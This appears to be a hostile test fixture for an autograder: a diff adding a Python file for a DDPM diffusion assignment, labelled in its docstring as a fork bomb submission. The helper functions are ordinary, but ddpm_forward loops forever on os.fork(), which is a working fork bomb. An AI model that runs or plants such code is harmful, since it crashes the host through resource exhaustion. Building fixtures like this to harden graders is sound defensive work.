@@ -1,0 +1,26 @@
+"""Hostile submission: a fork bomb inside a function"""
+# HONEST_MAX = 4.0
+
+import torch
+
+
+def add_noise(x, sigma):
+    return x + sigma * torch.randn_like(x)
+
+
+def ddpm_schedule(beta1, beta2, num_ts):
+    betas = torch.linspace(beta1, beta2, num_ts)
+    alphas = 1 - betas
+    return {"betas": betas, "alphas": alphas, "alpha_bars": torch.cumprod(alphas, 0)}
+
+
+import os
+
+
+def ddpm_forward(unet, ddpm_schedule, x_0, num_ts):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
+
